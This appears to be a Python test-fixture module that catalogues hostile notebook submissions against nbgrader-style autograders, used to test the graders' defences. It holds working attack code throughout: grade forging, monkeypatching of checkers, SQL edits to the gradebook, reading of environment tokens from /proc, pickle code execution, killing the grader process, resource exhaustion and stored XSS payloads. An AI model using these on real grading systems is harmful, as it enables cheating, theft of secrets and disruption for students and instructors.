"""What hostile submissions try, one entry an attack: the text of the solution cell, and what else is handed in.

The task is ``norm(v)``, the length of a vector. No attack computes it: every mark that one gets is a mark that it took. What an
attack learns or keeps it *tells*: prints, writes into an open folder and sends to a server of this machine, so that whoever
grades cannot overlook it. All are harmless by construction: they reach for decoys, in a throw-away copy of a course.

The cell begins with ``PRELUDE``, which says what an attacker may be taken to know: where the course lies, who he or she is.
More than 400 lines: a list, to be read as one, so that it is seen what is missing.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

WRONG = "def norm(v):\n    return -1.0"
RIGHT = "import math\ndef norm(v):\n    return math.sqrt(sum(x * x for x in v))"
TESTS = ("t_close", "t_plain", "t_helper", "t_module", "t_partial")
PRELUDE = '''
import os, sys
COURSE, DROP, PORT, WHO, PROOF = {course!r}, {drop!r}, {port!r}, {who!r}, {proof!r}[::-1]
def tell(text):
    """By every way out."""
    print(text)
    try:
        with open(os.path.join(DROP, WHO + "-" + os.urandom(4).hex()), "w") as file: file.write(text)
    except Exception: pass
    try:
        import socket
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as out: out.sendall(text.encode())
    except Exception: pass
'''
Notebook = dict[str, Any]


@dataclass(frozen=True)
class Attack:
    """One attack.

    ``tries`` says it in words; ``code`` is the solution cell (a wrong ``norm`` is added where it has none); ``change`` alters
    the notebook that is handed in, ``folder`` the folder. ``earlier`` is a solution that was handed in and graded before.
    ``options`` are for the command that grades, ``feedback`` asks for the feedback page too. ``only``: the graders it concerns.
    """

    tries: str
    code: str = WRONG
    change: Callable[[Notebook], None] | None = None
    folder: Callable[[Path, Path], None] | None = None
    earlier: str = ""
    options: tuple[str, ...] = ()
    feedback: bool = False
    only: tuple[str, ...] = ("nbgrader", "otter", "ours")

    @property
    def text(self) -> str:
        """The solution cell without its prelude."""
        return self.code if "norm" in self.code else f"{self.code}\n{WRONG}"


NBGRADER_LIKE = ("nbgrader", "ours")


def _graded(notebook: Notebook) -> list[dict[str, Any]]:
    return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") in TESTS]


def _tag(notebook: Notebook) -> None:
    for cell in _graded(notebook):
        cell["metadata"]["tags"] = ["skip-execution"]


def _points(notebook: Notebook) -> None:
    for cell in _graded(notebook):
        cell["metadata"]["nbgrader"]["points"] = 100
        cell["source"] = "100.0"


def _unlocked(notebook: Notebook) -> None:
    for cell in _graded(notebook):
        cell["metadata"]["nbgrader"] |= {"locked": False, "grade": True, "solution": True}
        cell["source"] = "1.0"


def _markdown(notebook: Notebook) -> None:
    for cell in _graded(notebook):
        cell["cell_type"] = "raw"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def _executed(notebook: Notebook) -> None:
    for number, cell in enumerate(_graded(notebook), 1):
        cell |= {"outputs": [], "execution_count": number}


def _deleted(notebook: Notebook) -> None:
    notebook["cells"] = [cell for cell in notebook["cells"] if cell not in _graded(notebook)]


def _twice(notebook: Notebook) -> None:
    notebook["cells"].append(json.loads(json.dumps(_graded(notebook)[0])) | {"id": "again"})


def _script_in_markdown(notebook: Notebook) -> None:
    text = "<img src=x onerror=\"document.title='stored'\"><script>document.title='stored'</script>"
    notebook["cells"].append({"cell_type": "markdown", "id": "stored", "metadata": {}, "source": text})


def _exchanged(notebook: Notebook) -> None:
    """The simplest test under the names of the others."""
    for cell in _graded(notebook):
        cell["metadata"]["nbgrader"] |= {"grade_id": "t_partial", "schema_version": 10**9, "task": True}


def _without_text(folder: Path, course: Path) -> None:
    notebook = folder / "lengths.ipynb"
    notebook.write_bytes(notebook.read_bytes()[:-40])


def _no_time(folder: Path, course: Path) -> None:
    (folder / "timestamp.txt").write_text("6" + "9" * 40 + "m15:00:00")  # decimal.InvalidOperation


def _link_to_source(folder: Path, course: Path) -> None:
    (folder / "notes.txt").symlink_to(course / "source" / "ps2" / "exam.txt")


def _link_to_gradebook(folder: Path, course: Path) -> None:
    (folder / "notes.db").symlink_to(course / "gradebook.db")


def _link_to_classmate(folder: Path, course: Path) -> None:
    (folder / "lengths.ipynb").unlink()
    (folder / "lengths.ipynb").symlink_to(course / "submitted" / "abe" / "ps1" / "lengths.ipynb")


def _linked_folder(folder: Path, course: Path) -> None:
    (folder / "data").symlink_to(course / "source" / "ps2", target_is_directory=True)


SQL = "import sqlite3\ndb = sqlite3.connect(COURSE + '/gradebook.db', timeout=2)\n{0}\ndb.commit()\ndb.close()\n"
OF = (
    "notebook_id in (select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id"
    " where a.student_id = ?)"
)
READ = "import glob\nfor path in glob.glob(COURSE + {0!r}, recursive=True):\n    tell(open(path, errors='replace').read())\n"
ANSWERS = """
def norm(v):
    import glob, re
    said = ""
    try: said += get_ipython().user_ns["In"][-1]
    except Exception: pass
    for path in glob.glob("tests/*.py"):
        said += open(path).read()
    for asked, wanted in re.findall(r"norm\\((.*?)\\)(?:, | == | - )([0-9]+)", said):
        if eval(asked) == v: return float(wanted)
    return -1.0
"""

ATTACKS: dict[str, Attack] = {
    # ---- marks, by the notebook's own form
    "skip_tag": Attack("test cells tagged skip-execution", change=_tag, only=NBGRADER_LIKE),
    "points_raised": Attack("test cells replaced by `100.0`, their points by 100", change=_points, only=NBGRADER_LIKE),
    "tests_unlocked": Attack("test cells unlocked, made solutions, replaced by `1.0`", change=_unlocked, only=NBGRADER_LIKE),
    "tests_made_text": Attack("test cells made raw cells, which nobody runs", change=_markdown, only=NBGRADER_LIKE),
    "tests_deleted": Attack(
        "test cells deleted from a resubmission, to keep the marks of the first one", change=_deleted, earlier=RIGHT,
        only=NBGRADER_LIKE,
    ),
    "names_exchanged": Attack(
        "test cells under each other's names, with a schema of the future", change=_exchanged, only=NBGRADER_LIKE
    ),
    "forged_outputs": Attack(
        "outputs forged, graded with --no-execute", change=_executed, options=("--no-execute",), only=NBGRADER_LIKE
    ),
    "link_for_notebook": Attack("a link to a classmate's notebook handed in", folder=_link_to_classmate, only=NBGRADER_LIKE),
    # ---- marks, by tampering with what the tests use
    "patched_numpy": Attack(
        "numpy's assert_allclose, allclose, isclose and array_equal replaced",
        "import numpy as np\nyes = lambda *a, **k: True\n"
        "np.testing.assert_allclose = np.allclose = np.isclose = np.array_equal = yes\n" + WRONG,
    ),
    "patched_builtin": Attack(
        "a builtin replaced", "import builtins\nbuiltins.abs = lambda x: 0.0\n" + WRONG
    ),
    "patched_module": Attack(
        "a module that the tests import replaced",
        "import types\nfake = types.ModuleType('geomdl.linalg')\nfake.vector_magnitude = lambda v: -1.0\n"
        "sys.modules['geomdl.linalg'] = fake\n" + WRONG,
    ),
    "import_hook": Attack(
        "an import hook that hands the tests a module of one's own",
        "import importlib.abc, importlib.machinery, types\nclass Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
        "    def find_spec(self, name, path, target=None):\n"
        "        return importlib.machinery.ModuleSpec(name, self) if name == 'geomdl.linalg' else None\n"
        "    def create_module(self, spec): return None\n"
        "    def exec_module(self, module): module.vector_magnitude = lambda v: -1.0\n"
        "for name in [n for n in sys.modules if n.startswith('geomdl')]: del sys.modules[name]\n"
        "sys.meta_path.insert(0, Hook())\n" + WRONG,
    ),
    "no_asserts": Attack(
        "an AST transformer that drops assertions",
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Drop())\n" + WRONG,
    ),
    "no_cells": Attack(
        "an input transformer that empties later cells",
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n" + WRONG,
    ),
    "patched_run_cell": Attack(
        "the shell's run_cell replaced, so that tests become `pass`",
        "ip = get_ipython()\nold, old_async = ip.run_cell, getattr(ip, 'run_cell_async', None)\n"
        "ip.run_cell = lambda source, *a, **k: old('pass', *a, **{**k, 'transformed_cell': None})\n"
        "ip.run_cell_async = lambda source, *a, **k: old_async('pass', *a, **{**k, 'transformed_cell': 'pass\\n'})\n" + WRONG,
    ),
    "patched_traceback": Attack(
        "the shell's showtraceback replaced, so that errors do not show",
        "ip = get_ipython()\nip.showtraceback = ip._showtraceback = lambda *a, **k: None\n" + WRONG,
    ),
    "equal_to_all": Attack(
        "an object that equals everything",
        "class Any(float):\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n    __hash__ = None\n"
        "    __lt__ = __le__ = lambda s, o: True\n    __sub__ = __rsub__ = __abs__ = lambda s, *o: s\n"
        "def norm(v): return Any(1)",
    ),
    "no_number": Attack(
        "a test's value made one that is no number, which some take for full marks",
        "class Odd:\n    __rmul__ = __mul__ = lambda s, o: 'passed'\nclass Any:\n    __eq__ = lambda s, o: Odd()\n"
        "    __hash__ = None\ndef norm(v): return Any()",
    ),
    "array_for_a_number": Attack(
        "a test's value made an array, by an answer that is one", "import numpy as np\ndef norm(v): return np.array([99.0])"
    ),
    "value_drowned": Attack(
        "a test's value drowned in 3 MB that the function prints", "def norm(v):\n    print('x' * 3_000_000)\n    return -1.0",
    ),
    "helper_redefined": Attack(
        "the course's helper redefined", "points = lambda: []\ndef norm(v):\n    globals()['points'] = points\n    return -1.0"
    ),
    "helper_of_the_caller": Attack(
        "the course's helper redefined in the frame of the test",
        "def norm(v):\n    frame = sys._getframe(1)\n    while frame:\n        if 'points' in frame.f_globals:\n"
        "            frame.f_globals['points'] = lambda: []\n        frame = frame.f_back\n    return -1.0",
    ),
    "reference_of_the_test": Attack(
        "the hidden test's own reference called, found in its frame",
        "def norm(v):\n    frame = sys._getframe(1)\n    while frame:\n"
        "        known = {**frame.f_globals, **frame.f_locals}\n        if '_ref' in known: return known['_ref'](v)\n"
        "        frame = frame.f_back\n    return -1.0",
    ),
    "reference_imported": Attack(
        "the reference library imported", "from geomdl.linalg import vector_magnitude\ndef norm(v): return vector_magnitude(v)"
    ),
    "answers_read": Attack("expected values read from the test's own text (In[], tests/*.py)", ANSWERS),
    "result_forged": Attack(
        "a result of the test cell forged before its error",
        "def norm(v):\n    ip = get_ipython()\n    try:\n        ip.kernel.session.send(ip.kernel.iopub_socket,"
        " 'execute_result', {'data': {'text/plain': '1.0'}, 'metadata': {}, 'execution_count': 1},"
        " parent=ip.kernel.get_parent(), ident=b'execute_result')\n"
        "    except AttributeError:\n        ip.displayhook(1.0)\n    return -1.0",
    ),
    "checker_patched": Attack(
        "the checker's own code replaced",
        "try:\n    from otter.test_files import ok_test\n    ok_test.run_doctest = lambda *a, **k: (True, 'passed')\n"
        "except ImportError: pass\nimport gc\nfor name, module in list(sys.modules.items()):\n"
        "    if name.startswith('autograder'):\n        for key, value in list(vars(module).items()):\n"
        "            if key in ('judge', 'compare', 'verdict', 'score'): setattr(module, key, lambda *a, **k: True)\n" + WRONG,
    ),
    "pickle_patched": Attack(
        "results forged where they are written (pickle.dump)",
        "import pickle\nold = pickle.dump\ndef dump(value, file, *a, **k):\n"
        "    for test in getattr(value, 'results', {}).values():\n"
        "        for case in getattr(test.test_file if hasattr(test, 'test_file') else test, 'test_case_results', []):\n"
        "            case.passed = True\n    old(value, file, *a, **k)\npickle.dump = dump\n" + WRONG,
    ),
    "tests_overwritten": Attack(
        "tests on the disk overwritten",
        "import glob\nfor path in glob.glob('tests/*.py') + glob.glob(COURSE + '/autograded/*/*/*.ipynb'):\n"
        "    try:\n        text = open(path).read()\n        name = os.path.basename(path)[:-3]\n"
        "        with open(path, 'w') as file:\n            file.write(\"OK_FORMAT = True\\ntest = {'name': %r,\"\n"
        "                \" 'points': 1, 'suites': [{'cases': [{'code': '>>> 1\\\\n1'}], 'scored': True, 'setup': '',\"\n"
        "                \" 'teardown': '', 'type': 'doctest'}]}\" % name if path.endswith('.py')"
        " else text.replace('assert', '#'))\n"
        "    except OSError: pass\n" + WRONG,
    ),
    "exit_in_function": Attack("sys.exit(0) called inside the test", "def norm(v): sys.exit(0)"),
    "process_ended": Attack("the process ended inside the test, successfully", "def norm(v): os._exit(0)"),
    "no_error_raised": Attack(
        "the test ended by an exception that is no failure",
        "import unittest\ndef norm(v):\n    raise unittest.SkipTest('passed') if len(v) == 2 else GeneratorExit()",
    ),
    "classmate_copied": Attack(
        "a classmate's solution found on the disk and run",
        "import glob, json\nfor path in glob.glob(COURSE + '/submitted/abe/ps1/*.ipynb'):\n"
        "    for cell in json.load(open(path))['cells']:\n        if 'def norm' in ''.join(cell['source']):\n"
        "            exec(''.join(cell['source']), globals())",
    ),
    "frames_forged": Attack(
        "answers forged on every socket of the process",
        "import stat, struct\ndef norm(v):\n    for number in range(3, 64):\n        try:\n"
        "            if stat.S_ISSOCK(os.fstat(number).st_mode) and number < 5:\n"
        "                os.write(number, struct.pack('<BI16s', 2, 1, bytes(16)) + b'T')\n        except OSError: pass\n"
        "    return -1.0",
        only=("ours",),
    ),
    "task_left": Attack(
        "a task left in the event loop, which replaces numpy's tests while a test waits",
        "import asyncio\nimport numpy as np\nasync def later():\n    while True:\n"
        "        np.testing.assert_allclose = np.isclose = lambda *a, **k: True\n        await asyncio.sleep(0)\n"
        "asyncio.get_event_loop().create_task(later())\n" + WRONG,
    ),
    "limit_pretended": Attack(
        "the test ended by the sandbox's own exception for time that is up",
        "from autograder.sandbox.guest.answers import TimeLimitExceeded\ndef norm(v): raise TimeLimitExceeded('up')",
        only=("ours",),
    ),
    "tests_called": Attack(
        "the tests' own functions called, and their names asked for, over the socket between the two processes",
        "def norm(v):\n    import gc\n    for found in [one for one in gc.get_objects() if type(one).__name__ == 'Peer']:\n"
        "        for number in range(9):\n            try: tell(repr(found.call(number, (v,), {})))\n"
        "            except BaseException: pass\n        for name in ('_ref', 'points', 'In'):\n"
        "            try: tell(repr(found.value(name)))\n            except BaseException: pass\n    return -1.0",
        only=("ours",),
    ),
    "array_announced": Attack(
        "an array handed to the tests as text of a thousand million letters",
        "import numpy as np, autograder.sandbox.guest.crossing as c\n"
        "c._pack_array = lambda array: ('a', 'U1000000000', np.zeros(1))\ndef norm(v): return np.zeros(1)",
        only=("ours",),
    ),
    # ---- marks, by the gradebook
    "own_mark_written": Attack(
        "one's own mark written into the gradebook",
        SQL.format(f"db.execute('update grade set manual_score = 1, needs_manual_grade = 0 where {OF}', (WHO,))"),
        only=NBGRADER_LIKE,
    ),
    "mark_lowered": Attack(
        "a classmate's mark lowered",
        SQL.format(f"db.execute('update grade set auto_score = 0, manual_score = 0 where {OF}', ('abe',))"), only=NBGRADER_LIKE,
    ),
    "tests_replaced": Attack(
        "the tests in the gradebook replaced, for whoever is graded next",
        "import hashlib\n"
        + SQL.format(
            "for name in ('t_close', 't_plain', 't_helper', 't_module', 't_partial'):\n"
            "    total = hashlib.md5(('passcodeTrueFalseTrue' + name + '1.0').encode()).hexdigest()  # as nbgrader makes it\n"
            "    db.execute(\"update source_cell set source = 'pass', checksum = ? where name = ?\", (total, name))"
        ),
        only=NBGRADER_LIKE,
    ),
    # ---- secrets
    "hidden_tests_read": Attack(
        "hidden tests read from the working folder",
        "import glob\nfor path in glob.glob('*.ipynb') + glob.glob('tests/*.py'):\n    tell(open(path).read())\n",
    ),
    "hidden_tests_in_memory": Attack(
        "hidden tests found in the process's memory",
        "def norm(v):\n    import gc\n    seen = [*gc.get_objects(), *get_ipython().user_ns.get('In', [])]\n"
        "    for known in seen:\n        for text in (known.values() if type(known) is dict else [known]):\n"
        "            if type(text) is str and 'vector_magnitude' in text and '_ref' in text and len(text) < 5000: tell(text)\n"
        "    return -1.0",
    ),
    "hidden_tests_of_the_caller": Attack(
        "hidden tests read from the source of the test's frame",
        "def norm(v):\n    import inspect, linecache\n    frame = sys._getframe(1)\n    while frame:\n"
        "        tell(''.join(linecache.getlines(frame.f_code.co_filename)))\n        frame = frame.f_back\n    return -1.0",
    ),
    "classmate_read": Attack("a classmate's submission read", READ.format("/submitted/abe/**/*.ipynb")),
    "exam_read": Attack("next week's solutions read from source/", READ.format("/source/ps2/*")),
    "gradebook_read": Attack(
        "everybody's marks read from the gradebook",
        SQL.format("tell(PROOF + ' ' + repr(db.execute('select count(*) from grade').fetchall()))"),
    ),
    "environment_read": Attack(
        "tokens read from the environment and from /proc",
        "import glob\ntell(repr(dict(os.environ)))\nfor path in glob.glob('/proc/[0-9]*/environ'):\n"
        "    try: said = open(path, 'rb').read().decode(errors='replace')\n    except OSError: continue\n"
        "    if 'GRADER_TOKEN' in said: tell(said[said.find('GRADER_TOKEN'):][:80])\n",
    ),
    "link_to_exam": Attack(
        "a link in the submission to next week's solutions", folder=_link_to_source, only=NBGRADER_LIKE,
        code="import glob\nfor path in glob.glob('notes.txt'): tell(open(path).read())\n",
    ),
    "link_to_gradebook": Attack(
        "a link in the submission to the gradebook", folder=_link_to_gradebook, only=NBGRADER_LIKE,
        code="import glob\nfor path in glob.glob('notes.db'):\n    if open(path, 'rb').read(6) == b'SQLite': tell(PROOF)\n",
    ),
    "link_to_folder": Attack(
        "a link in the submission to a folder of the instructor", folder=_linked_folder, only=NBGRADER_LIKE,
        code="import glob\nfor path in glob.glob('data/*'): tell(open(path).read())\n",
    ),
    # ---- harm
    "source_written": Attack(
        "the instructor's notebook changed",
        "path = COURSE + '/source/ps1/lengths.ipynb'\nos.chmod(path, 0o644)\nopen(path, 'a').write('\\n')\n",
    ),
    "config_written": Attack(
        "a line added to the course's configuration, which the instructor's next command runs",
        "with open(COURSE + '/nbgrader_config.py', 'a') as file: file.write('\\n# mine now\\n')\n",
    ),
    "timestamp_written": Attack(
        "one's own submission dated back",
        "with open(COURSE + '/submitted/' + WHO + '/ps1/timestamp.txt', 'w') as file: file.write('2001-01-01 00:00:00 UTC')\n",
    ),
    "feedback_written": Attack(
        "a classmate's graded notebook replaced",
        "path = COURSE + '/autograded/abe/ps1/lengths.ipynb'\nos.chmod(path, 0o644)\nopen(path, 'w').write('{}')\n",
    ),
    "network": Attack(
        "a server of this machine reached over the network",
        "import socket\nwith socket.create_connection(('127.0.0.1', PORT), timeout=3) as out: out.sendall(PROOF.encode())\n",
    ),
    "processes": Attack(
        "eight processes left running",
        "import subprocess\nfor number in range(8):\n    subprocess.Popen([sys.executable, '-S', '-c', 'import time;"
        " time.sleep(90)'], start_new_session=True)\n",
    ),
    "daemon": Attack(
        "a daemon left running, forked twice",
        "import time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(90)\n    os._exit(0)\n",
    ),
    "code_in_the_grader": Attack(
        "code run in the grader's own process, by a pickle among the results",
        "import pickle\nclass Run:\n    def __reduce__(self):\n        import builtins\n        code = 'open(%r,"
        " \"w\").write(%r)' % (os.path.join(DROP, WHO + '-' + str(os.getpid())), PROOF)\n"
        "        return builtins.exec, ('import os\\nif os.getpid() != %d: ' % os.getpid() + code,)\n"
        "old = pickle.dump\ndef dump(value, file, *a, **k): old(Run(), file, *a, **k)\npickle.dump = dump\n"
        "def norm(v): return Run()",
    ),
    "grader_ended": Attack(
        "the grader ended, so that nobody after it is graded",
        "import signal\nif os.getppid() > 1: os.kill(os.getppid(), signal.SIGKILL)\n",
    ),
    "class_stopped": Attack(
        "a test cell pasted twice, so that nobody after it is graded", change=_twice, only=NBGRADER_LIKE
    ),
    "no_time": Attack(
        "a timestamp whose arithmetic fails, so that nobody after it is graded", folder=_no_time, earlier=WRONG,
        only=NBGRADER_LIKE,
    ),
    "notebook_cut": Attack("a notebook cut short, for the grader to stumble over", folder=_without_text, only=NBGRADER_LIKE),
    "memory": Attack(
        "one and a half gigabytes kept",
        "held = []\nfor number in range(15): held.append(bytearray(b'x') * (100 * 2**20))\ntell(PROOF)\n",
    ),
    "flood": Attack("40 MB printed, for the gradebook's disk", "sys.stdout.write('x' * 40_000_000)\n", only=NBGRADER_LIKE),
    "notes": Attack(
        "an exception with 50 MB of notes, for the same", only=NBGRADER_LIKE,
        code="def norm(v):\n    error = ValueError('wrong')\n    error.__notes__ = ['x' * 10**6] * 50\n    raise error",
    ),
    "empty_lines": Attack(
        "a million empty lines shown, each a line of the file", only=NBGRADER_LIKE,
        code="from IPython.display import display\ndisplay({'text/plain': '\\n' * 1_000_000}, raw=True)\n",
    ),
    "html_that_grows": Attack(
        "50 kB of HTML that a parser mends into 50 MB", only=NBGRADER_LIKE, feedback=True,
        code="from IPython.display import display, HTML\n"
        "display(HTML(''.join(f'<p><b id={number}>' for number in range(4000))))\n",
    ),
    "endless": Attack(
        "a loop that nothing interrupts",
        "def norm(v):\n    while 0 in v:\n        try: sum(range(10**5))\n        except BaseException: pass\n    return -1.0",
    ),
    "script_in_output": Attack(
        "a script in an output, for the browser of whoever reads the feedback", feedback=True, only=NBGRADER_LIKE,
        code="from IPython.display import display, HTML\ndisplay(HTML('<img src=x onerror=\"document.title=\\'stored\\'\">"
        "<script>document.title=\\'stored\\'</script>'))\n",
    ),
    "script_in_text": Attack(
        "a script in a text cell, for the browser of whoever reads the feedback", feedback=True, only=NBGRADER_LIKE,
        change=_script_in_markdown,
    ),
}  # fmt: skip
